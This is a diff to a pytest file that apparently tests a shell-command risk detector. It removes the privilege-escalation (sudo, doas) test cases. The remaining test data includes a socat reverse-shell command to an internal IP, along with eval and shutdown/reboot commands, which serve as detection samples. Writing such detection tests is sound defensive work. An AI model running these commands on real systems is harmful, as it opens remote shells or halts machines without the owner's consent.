@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.unit.detect.reading import DECODE, DOWNLOAD, DYNAMIC, NETWORK, POWER, PRIVILEGE, REVERSE, categories
+from tests.unit.detect.reading import DECODE, DOWNLOAD, DYNAMIC, NETWORK, POWER, REVERSE, categories
 
 
 @pytest.mark.parametrize(
@@ -67,9 +67,6 @@ def test_local_data_for_fixed_code_is_no_download() -> None:
         ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", [REVERSE, NETWORK]),
         ("eval $CMD", [DYNAMIC]),
         ("eval", []),
-        ("sudo ls", [PRIVILEGE]),
-        ("sudo --version", []),
-        ("doas ls", [PRIVILEGE]),
         ("shutdown -h now", [POWER]),
         ("shutdown -c", []),
         ("systemctl reboot", [POWER]),
